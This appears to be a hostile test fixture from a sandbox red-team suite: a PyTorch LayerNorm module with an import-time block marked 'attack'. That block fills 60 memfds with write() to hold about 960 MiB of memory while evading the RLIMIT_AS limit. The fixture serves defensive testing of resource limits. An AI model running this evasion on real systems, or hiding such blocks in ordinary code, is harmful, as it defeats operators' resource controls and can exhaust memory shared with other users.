"""Hostile: Holds memory in memfds filled with write(), which RLIMIT_AS does not see (red-team 13:
960 MiB on top of the address-space limit, 60 fds x the 16 MiB file-size cap).
Its benign twin is this file without the attack blocks (tests/test_hostile.py)."""
import torch
import torch.nn as nn

# >>> attack
import os

_fds, _total = [], 0
_chunk = b"\1" * (1 << 20)
try:
    while len(_fds) < 60:
        fd = os.memfd_create("held")
        _fds.append(fd)
        for _ in range(16):
            _total += os.write(fd, _chunk)
except OSError as exc:
    if _total < 512 << 20:
        raise
for fd in _fds:
    os.close(fd)
# <<< attack


class LayerNorm(nn.Module):
    def __init__(self, normalized_shape, eps=1e-5):
        super().__init__()
        if isinstance(normalized_shape, int):
            normalized_shape = (normalized_shape,)
        self.normalized_shape = tuple(normalized_shape)
        self.eps = eps
        self.weight = nn.Parameter(torch.ones(self.normalized_shape))
        self.bias = nn.Parameter(torch.zeros(self.normalized_shape))

    def forward(self, x):
        dims = tuple(range(-len(self.normalized_shape), 0))
        mean = x.mean(dim=dims, keepdim=True)
        var = ((x - mean) ** 2).mean(dim=dims, keepdim=True)
        out = (x - mean) / torch.sqrt(var + self.eps) * self.weight + self.bias
        return out
